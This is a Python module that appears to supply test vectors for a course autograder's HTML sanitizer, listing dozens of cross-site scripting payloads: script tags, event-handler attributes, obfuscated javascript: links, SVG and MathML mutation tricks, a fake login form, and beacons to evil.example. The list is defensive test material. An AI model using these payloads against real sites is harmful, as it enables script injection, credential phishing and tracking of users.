"""HTML that students should not be able to show, and the look for what would still do harm."""

from __future__ import annotations

from autograder.course.harm import harm

__all__ = ["RUN", "SLEEPING", "VECTORS", "harm"]

RUN = "alert(1)"

VECTORS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT>",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "onerror": f'<img src="x" onerror="{RUN}">',
    "onerror without quotes": f"<img/src=x/onerror={RUN}>",
    "onload of a body": f'<body onload="{RUN}">',
    "ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "onfocus": f'<input autofocus onfocus="{RUN}">',
    "onmouseover": f'<p onmouseover="{RUN}">x</p>',
    "javascript link": f'<a href="javascript:{RUN}">x</a>',
    "javascript link with a tab": f'<a href="java\tscript:{RUN}">x</a>',
    "javascript link in entities": f'<a href="&#106;avascript&colon;{RUN}">x</a>',
    "javascript link after a space": f'<a href=" \x01javascript:{RUN}">x</a>',
    "vbscript link": f'<a href="vbscript:{RUN}">x</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    "data link in base64": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "link to a file beside": '<a href="trap.html">x</a>',
    "link to another scheme": '<a href="file:///etc/passwd">x</a>',
    "xlink": f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg onload": f'<svg onload="{RUN}"></svg>',
    "svg animate": f'<svg><animate onbegin="{RUN}" attributeName="x"></svg>',
    "svg picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "svg foreign object": f'<svg><foreignObject><iframe src="javascript:{RUN}"></iframe></foreignObject></svg>',
    "math link": f'<math><maction xlink:href="javascript:{RUN}">x</maction></math>',
    "math and style": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></math>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe with a page": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
    "formaction": f'<button formaction="javascript:{RUN}">x</button>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "link to a style": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style": "<style>body { display: none }</style>",
    "style that covers the page": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh">x</div>',
    "style with an address": '<div style="background:url(https://evil.example/seen)">x</div>',
    "style with an expression": f'<div style="width:expression({RUN})">x</div>',
    "style with escapes": '<div style="background-color:u\\72l(https://evil.example)">x</div>',
    "picture from elsewhere": '<img src="https://evil.example/seen.png">',
    "pictures from elsewhere": '<img srcset="https://evil.example/seen.png 2x">',
    "picture without a scheme": '<img src="//evil.example/seen.png">',
    "background": '<table background="https://evil.example/seen.png"><tr><td>x</td></tr></table>',
    "video": '<video src="https://evil.example/x" poster="https://evil.example/y" autoplay></video>',
    "audio": f'<audio src="x" onerror="{RUN}"></audio>',
    "comment": f"<!--><script>{RUN}</script>-->",
    "conditional comment": f"<!--[if IE]><script>{RUN}</script><![endif]-->",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "template": f"<template><script>{RUN}</script></template>",
    "textarea": f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    "custom element": f'<x-y onclick="{RUN}" is="z">x</x-y>',
    "unfinished": f"<img src=x onerror={RUN} ",
    "data of a widget": '<div data-requiremodule="x" id="notebook">x</div>',
}
"""What is tried, by what it is."""

SLEEPING = {"script in a script", "comment", "conditional comment", "unfinished"}
"""What does no harm by itself, but may when a careless cleaner takes a part of it away."""
